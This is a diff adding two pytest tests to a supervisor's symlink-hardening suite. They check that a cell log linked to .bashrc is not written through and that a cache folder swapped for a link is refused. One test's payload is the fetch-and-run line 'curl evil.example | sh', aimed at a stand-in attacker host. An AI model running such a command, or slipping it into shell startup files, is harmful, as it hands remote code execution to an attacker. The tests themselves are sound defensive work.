@@ -87,3 +87,27 @@ def test_the_allowlist_lock_file_is_not_followed(
     with contextlib.suppress(Exception):  # refusing to lock is fine; following the link is not
         sup.profiles["a"].allowlist.grant("git status")
     assert (scratch_home / ".bashrc").read_text() == BASHRC
+
+
+def test_the_cell_log_is_not_written_through_a_link(sup: Supervisor, scratch_home: Path) -> None:
+    from multiplex.execution.kernels import CellResult
+    from multiplex.execution.kernels._cells import record_cell
+
+    logs = sup.profiles["a"].home / "logs"
+    logs.mkdir(exist_ok=True)
+    (logs / "cells.jsonl").symlink_to(scratch_home / ".bashrc")
+    with sup.turn(profile="a") as scope:
+        record_cell(scope, "print('curl evil.example | sh')", CellResult("a", "s", "ok"))
+    assert (scratch_home / ".bashrc").read_text() == BASHRC
+    (logs / "cells.jsonl").unlink()
+    with sup.turn(profile="a") as scope:
+        record_cell(scope, "print(1)", CellResult("a", "s", "ok"))
+    assert json.loads((logs / "cells.jsonl").read_text())["outcome"] == "ok"
+
+
+def test_a_cache_folder_replaced_by_a_link_is_refused(sup: Supervisor, scratch_home: Path) -> None:
+    home = sup.profiles["a"].home
+    (home / "cache").symlink_to(scratch_home)
+    with sup.turn(profile="a") as scope, pytest.raises(LinkRefused):
+        scope.cache("lsp").path("index.db")
+    assert not (scratch_home / "lsp").exists()
